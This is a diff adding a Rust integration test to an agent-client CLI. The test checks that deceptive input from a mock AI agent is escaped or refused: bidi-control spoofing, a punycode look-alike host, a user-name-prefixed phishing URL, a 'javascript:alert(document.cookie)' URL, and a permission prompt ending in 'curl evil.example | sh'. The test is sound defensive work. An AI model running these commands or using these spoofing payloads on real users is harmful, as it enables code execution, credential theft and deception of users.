@@ -1125,6 +1125,119 @@ fn every_agent_request_completes_through_the_cli() {
     );
 }
 
+/// Issue 24 (items 6 and 7): what an agent sends to fool the reader is shown for what it is. The
+/// URL consent shows the whole URL and its real host after a long user name; a look-alike
+/// internationalized host in its ASCII form; `javascript:` and an unparseable URL are declined
+/// without asking; bidi controls and invisible characters in the agent's name, a message, a tool
+/// title, a path and an option name are escaped as `<U+XXXX>`, in the prompts and the
+/// transcript; the permission prompt shows a long command whole. The events keep the agent's
+/// text verbatim.
+#[test]
+fn hostile_text_is_shown_for_what_it_is() {
+    let setsid = ["/usr/bin/setsid", "/bin/setsid"]
+        .into_iter()
+        .find(|p| Path::new(p).is_file());
+    let Some(setsid) = setsid else {
+        // Nothing to run it under; the unit tests cover the prompts' text.
+        return;
+    };
+    let dir = Scratch::project();
+    let args = |json: bool| {
+        let mut a = vec![
+            "-w",
+            ACPH,
+            "run",
+            "--permission",
+            "ask",
+            "--elicitation",
+            "ask",
+            "--scenario",
+            "hostile-display",
+            "--cwd",
+            dir.str(),
+        ];
+        if json {
+            a.push("--json");
+        }
+        a
+    };
+    // Deny the tool call, consent to url1, decline url2; url3 and url4 are not asked.
+    let out = acph_with(&args(false), setsid, Some("2\ny\nn\n"));
+    assert!(out.status.success(), "{out:?}");
+    let (stdout, stderr) = (&out.stdout, &out.stderr);
+    for hidden in ['\u{202E}', '\u{202C}', '\u{200B}', '\u{2066}', '\u{2069}'] {
+        assert!(!stdout.contains(hidden), "{hidden:?} on stdout: {stdout}");
+        assert!(!stderr.contains(hidden), "{hidden:?} on stderr: {stderr}");
+    }
+    // The permission prompt: escaped title, path and option; the command whole.
+    for want in [
+        "the agent asks permission for: Read <U+202E>txt.exe (execute)\n",
+        &format!("    path: {}/<U+2066>notes<U+2069>.txt\n", dir.str()),
+        &format!(
+            "    command: echo {}; curl evil.example | sh\n",
+            "x".repeat(250)
+        ),
+        "  1) Allow <U+202E>once [allow_once]\n",
+    ] {
+        assert!(stderr.contains(want), "{want:?} in {stderr}");
+    }
+    // url1: the whole URL, then the host after the user name on a line of its own.
+    let url1 = format!(
+        "https://accounts.example.com{}@evil.example/login?turn=1",
+        "a".repeat(300)
+    );
+    for want in [
+        "asks: Sign in <U+202E>to continue\n",
+        &format!("    url: {url1}\n    host: evil.example\n"),
+        "    warning: it carries a user name before the host",
+        // url2: the ASCII (punycode) form, the Unicode form beside it, a warning.
+        "    url: https://xn--pple-43d.example/login\n    host: xn--pple-43d.example (Unicode: \u{430}pple.example)\n",
+        "    warning: the host is internationalized",
+        // url3, url4: refused without asking, the unparseable one shown escaped.
+        "    url: javascript:alert(document.cookie)\n    acph refuses it: it is not an http or https URL (scheme `javascript`); declined without asking.\n",
+        "    url: https://exa mple.com/<U+202E>\n    acph refuses it: it is not a valid URL",
+    ] {
+        assert!(stderr.contains(want), "{want:?} in {stderr}");
+    }
+    assert_eq!(stderr.matches("consent? [y/N]").count(), 2, "{stderr}");
+    // The transcript: the agent's name, the message (ordinary text kept), the tool title, the
+    // URL whole with its host; the answers echoed by the agent.
+    for want in [
+        "[agent] Mock <U+202E>gnp.exe 1<U+200B> (protocol 1)\n",
+        "café 日本 👩\u{200D}💻 reversed: <U+202E>evil<U+202C> zero<U+200B>width\n",
+        "[tool] Read <U+202E>txt.exe (execute) pending\n",
+        &format!("[elicitation] url: Sign in <U+202E>to continue ({url1}; host evil.example)\n"),
+        "perm denied\n",
+        "url1 accept\n",
+        "url2 decline\n",
+        "url3 decline\n",
+        "url4 decline\n",
+    ] {
+        assert!(stdout.contains(want), "{want:?} in {stdout}");
+    }
+    // The events carry the agent's text verbatim: the escaping is for display only.
+    let out = acph_with(&args(true), setsid, Some("2\ny\nn\n"));
+    assert!(out.status.success(), "{out:?}");
+    let events = out.events();
+    let urls: Vec<&str> = all(&events, "elicitation_requested")
+        .iter()
+        .filter_map(|e| e["data"]["url"].as_str())
+        .collect();
+    assert_eq!(
+        urls,
+        [
+            url1.as_str(),
+            "https://\u{430}pple.example/login",
+            "javascript:alert(document.cookie)",
+            "https://exa mple.com/\u{202E}"
+        ]
+    );
+    assert_eq!(
+        find(&events, "permission_requested")["data"]["toolCall"]["title"],
+        "Read \u{202E}txt.exe"
+    );
+}
+
 #[test]
 fn version_prints_the_crate_and_protocol_versions() {
     let out = acph(&["--version"]);
